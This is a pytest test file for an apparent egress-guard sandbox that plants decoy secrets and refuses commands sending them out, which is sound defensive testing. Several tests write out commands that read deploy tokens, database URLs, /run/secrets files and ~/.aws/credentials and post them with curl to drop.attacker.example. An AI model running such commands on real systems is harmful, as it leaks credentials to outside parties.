"""Canaries: whoever sends one, in whatever form and wherever to, is refused and on record.

Each refusal has its control: the same command without the jail arrives.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.lab import Lab
from tests.lab.programs import JAIL_ENVIRONMENT, Finished
from tests.lab.world import DEV_HOME

pytestmark = [pytest.mark.lab, pytest.mark.timeout(180)]

_CURL = "curl -sS --max-time 20"
_DROP = "https://drop.attacker.example"


def blocks(done: Finished) -> list[dict[str, Any]]:
    return [e for e in done.events() if e["event"] == "decision" and e["action"] == "block"]


def assert_sighted(done: Finished, name: str) -> None:
    (event,) = blocks(done)
    assert event["reason"] == "canary"
    found = [f for f in event["findings"] if f["rule"] == f"canary:{name}"]
    assert [finding["severity"] for finding in found] == ["critical"], event
    assert not found[0]["home"]


@pytest.mark.parametrize(
    ("name", "read"),
    [
        ("GITHUB_DEPLOY_TOKEN", 'printf %s "$GITHUB_DEPLOY_TOKEN"'),
        ("ADMIN_DATABASE_URL", 'printf %s "$ADMIN_DATABASE_URL" | base64 -w0'),
        ("/run/secrets/deployer.token:token", "cat /run/secrets/deployer.token | rev"),
    ],
)
def test_a_decoy_of_a_jail_that_is_read_and_sent_is_refused(
    clean_lab: Lab, name: str, read: str
) -> None:
    done = clean_lab.jail(["sh", "-c", f"{read} | {_CURL} --data-binary @- {_DROP}/"], "--canary")
    assert_sighted(done, name)
    assert clean_lab.requests() == []
    assert json.loads(done.text)["reason"] == "canary"
    assert "12 canaries are planted" in done.errors
    assert name in done.evidence[0]["canaries"]
    # The control: the same command without a jail.
    values = {"GITHUB_DEPLOY_TOKEN": "x" * 40, "ADMIN_DATABASE_URL": "postgres://x"}
    send = read.replace("cat /run/secrets/deployer.token", "echo x")
    clean_lab.run(
        ["sh", "-c", f"{send} | {_CURL} --data-binary @- {_DROP}/"], user="dev", env=values
    )
    assert len(clean_lab.requests("drop.attacker.example")) == 1


def test_the_same_request_without_the_decoy_passes(clean_lab: Lab) -> None:
    done = clean_lab.jail(["sh", "-c", f"{_CURL} -d x=1 https://www.example.com/get"], "--canary")
    assert blocks(done) == []
    assert len(clean_lab.requests()) == 1


def test_every_jail_has_its_own_and_leaves_nothing(clean_lab: Lab) -> None:
    before = clean_lab.traces()
    show = ["sh", "-c", "env; cat /run/secrets/*"]
    first, second = (clean_lab.jail(show, "--canary").text for _ in range(2))
    wanted = "STRIPE_LIVE_SECRET_KEY="
    keys = {line for text in (first, second) for line in text.splitlines() if wanted in line}
    assert len(keys) == 2
    assert "aws_secret_access_key" in first
    assert clean_lab.traces().without_files() == before.without_files()
    assert not clean_lab.path("/run/secrets").exists()
    plain = clean_lab.jail([*show[:2], "env; ls /run/secrets"])
    assert wanted not in plain.text


def test_variables_that_are_there_stay_as_they_are(lab: Lab) -> None:
    env = {"GITHUB_DEPLOY_TOKEN": "mine"}
    done = lab.jail(["sh", "-c", "env | grep DEPLOY"], "--canary", env=env)
    assert "GITHUB_DEPLOY_TOKEN=mine\n" in done.text
    assert "OLD_GITHUB_DEPLOY_TOKEN=" in done.text


@pytest.fixture
def planted(clean_lab: Lab) -> Iterator[Lab]:
    """The lab with canaries in dev's home, planted by root as sudo would."""
    try:
        done = canary(clean_lab, "plant", "--user", "dev")
        assert done.returncode == 0, done.stderr
        yield clean_lab
    finally:
        canary(clean_lab, "remove", "--user", "dev")


def canary(lab: Lab, *words: str, user: str | None = None) -> Any:
    import sys

    command = [sys.executable, "-m", "interceptor.cli.main", "canary", *words]
    return lab.run(command, user=user, env=JAIL_ENVIRONMENT, cwd=DEV_HOME)


@pytest.mark.parametrize("rootless", [False, True], ids=["root", "rootless"])
def test_a_planted_decoy_is_known_to_every_later_jail(planted: Lab, *, rootless: bool) -> None:
    send = f"{_CURL} --data-binary @$HOME/.aws/credentials {_DROP}/"
    options, user = (["--rootless"], "dev") if rootless else ([], None)
    done = planted.jail(["sh", "-c", send], *options, user=user)
    (event,) = blocks(done)
    assert event["reason"] == "canary", done.errors
    assert event["rule"].startswith("canary:~/.aws/credentials:backup-admin.")
    assert planted.requests() == []
    assert "7 canaries are planted" in done.errors
    planted.run(["sh", "-c", send], user="dev")
    assert len(planted.requests("drop.attacker.example")) == 1


def test_no_jail_shows_the_list_of_what_is_planted(planted: Lab) -> None:
    store = f"{DEV_HOME}/.local/state/egressguard/canaries.json"
    assert planted.path(store).stat().st_mode & 0o777 == 0o600
    assert planted.path(store).stat().st_uid == 4242
    script = f"cat {store}; ls -A {DEV_HOME}/.local/state/egressguard; echo x > {store}; true"
    done = planted.jail(["sh", "-c", script])
    assert done.text == ""
    assert json.loads(planted.path(store).read_text())["version"] == 1
    moved = planted.jail(["sh", "-c", f"mv {DEV_HOME}/.local {DEV_HOME}/.away"])
    assert moved.returncode != 0
    assert planted.path(store).exists()


def test_what_is_planted_is_the_users_and_can_be_taken_away(planted: Lab) -> None:
    listed = canary(planted, "list", "--user", "dev").stdout.decode()
    assert listed.count("planted") == 7
    own = canary(planted, "list", "--json", user="dev")
    rows = json.loads(own.stdout)["canaries"]
    assert len(rows) == 7
    for row in rows:
        path = planted.path(row["path"])
        assert path.stat().st_uid == 4242
        assert path.stat().st_mode & 0o777 == 0o600
    removed = canary(planted, "remove", user="dev")
    assert removed.returncode == 0, removed.stderr
    assert not any(planted.path(row["path"]).exists() for row in rows)
    assert not planted.path(f"{DEV_HOME}/.aws").exists()
    done = planted.jail(["true"])
    assert "canaries" not in done.errors


def test_root_writes_through_no_link_of_the_users(clean_lab: Lab) -> None:
    """A home whose .aws leads into a directory of root's: the kernel refuses the user."""
    target = clean_lab.path("/root/bait")
    target.mkdir(exist_ok=True)
    link = clean_lab.path(f"{DEV_HOME}/.aws")
    link.symlink_to("/root/bait")
    try:
        done = canary(clean_lab, "plant", "--user", "dev")
        assert done.returncode == 1
        assert list(target.iterdir()) == []
    finally:
        link.unlink()
        canary(clean_lab, "remove", "--user", "dev")
        target.rmdir()
